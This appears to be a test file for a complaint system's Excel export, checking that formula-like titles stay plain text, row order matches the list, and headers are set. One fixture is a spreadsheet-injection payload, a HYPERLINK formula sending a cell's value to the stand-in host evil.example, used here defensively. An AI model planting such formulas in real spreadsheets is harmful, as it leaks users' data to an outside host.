import ExcelJS from 'exceljs';
import type { Response } from 'supertest';
import { openDesk, type Desk } from '../harness/desk.js';

const MONDAY = '2026-03-02T09:00:00+08:00';
const PEOPLE = ['operator', 'handler', 'head', 'supervisor', 'admin'];
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
  '＝1+1 路灯坏了',
  '+86 路灯坏了',
  '＋1 路灯坏了',
  '-2+3 路灯坏了',
  '－1 路灯坏了',
  '@SUM(A1:A9)',
  '＠SUM(A1)',
];
const UNIT = 'tz-zhujian';
let desk: Desk;

beforeAll(async () => {
  desk = await openDesk(MONDAY, PEOPLE);
  for (const title of FORMULAS) {
    const reply = await desk.city.http
      .post('/api/v1/posts')
      .send({ title, body: '小区门口的路灯坏了半个月没有人修。' });
    expect(reply.status).toBe(201);
  }
  for (let i = 0; i < 4; i++) await desk.dispatchedTo(UNIT);
}, 120_000);
afterAll(() => desk.city.close());

/** As a browser would take the file. */
const taken = (path: string, name: string): Promise<Response> =>
  desk
    .get(path, name)
    .buffer(true)
    .parse((reply, done) => {
      const pieces: Buffer[] = [];
      reply.on('data', (piece: Buffer) => pieces.push(piece));
      reply.on('end', () => done(null, Buffer.concat(pieces)));
    });

async function sheetOf(path: string, name: string): Promise<ExcelJS.Worksheet> {
  const reply = await taken(path, name);
  expect(reply.status).toBe(200);
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(reply.body as ArrayBuffer);
  return book.worksheets[0]!;
}

/** The rows below the titles, by title. */
function rowsOf(sheet: ExcelJS.Worksheet): Record<string, unknown>[] {
  const titles = (sheet.getRow(2).values as string[]).slice(1);
  return Array.from({ length: sheet.rowCount - 2 }, (_, i) => {
    const cells = sheet.getRow(i + 3);
    return Object.fromEntries(titles.map((title, at) => [title, cells.getCell(at + 1).value]));
  });
}

interface Item {
  number: string;
  title: string;
  receivedAt: string;
}

async function listed<T>(path: string, name: string): Promise<T[]> {
  const all: T[] = [];
  for (let after: string | null = ''; after !== null;) {
    const reply = await desk.get(`${path}${path.includes('?') ? '&' : '?'}limit=3${after && `&after=${after}`}`, name);
    const page = reply.body as { items: T[]; next: string | null };
    all.push(...page.items);
    after = page.next;
  }
  return all;
}

describe('the list of complaints as a workbook', () => {
  it.each([
    ['', 'operator'],
    ['?sort=respondBy', 'supervisor'],
    [`?department=${UNIT}&state=dispatched`, 'operator'],
    ['', 'head'],
    [`?q=${encodeURIComponent('路灯')}`, 'supervisor'],
  ])('has the rows of the list%s in its order, for the %s', async (query, name) => {
    const items = await listed<Item>(`/complaints${query}`, name);
    const rows = rowsOf(await sheetOf(`/complaints/export.xlsx${query}`, name));
    expect(rows.map((row) => [row['工单编号'], row['标题']])).toEqual(
      items.map(({ number, title }) => [number, title]),
    );
  });

  it('keeps text, numbers and times what they are', async () => {
    const sheet = await sheetOf('/complaints/export.xlsx', 'operator');
    const rows = rowsOf(sheet);
    expect(rows).toHaveLength(FORMULAS.length + 4);
    expect(rows.map((row) => row['标题'])).toEqual(expect.arrayContaining(FORMULAS));
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.formula).toBeUndefined()));
    expect(rows[0]).toMatchObject({ 受理时间: new Date('2026-03-02T09:00:00Z'), 催单次数: 0, 已超期: '否' });
  });

  it('comes under a Chinese name, with who took it above the table', async () => {
    const reply = await taken('/complaints/export.xlsx', 'operator');
    expect(reply.headers).toMatchObject({
      'content-type': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      'content-disposition': `attachment; filename="complaints-2026-03-02.xlsx"; filename*=UTF-8''${encodeURIComponent('工单')}-2026-03-02.xlsx`,
      'cache-control': 'no-store',
    });
    const sheet = await sheetOf('/complaints/export.xlsx', 'operator');
    expect(sheet.getCell('A1').value).toMatch(/^工单；导出人：.+（operator）；导出时间：2026-03-02 09:00；/);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 2 });
  });
});
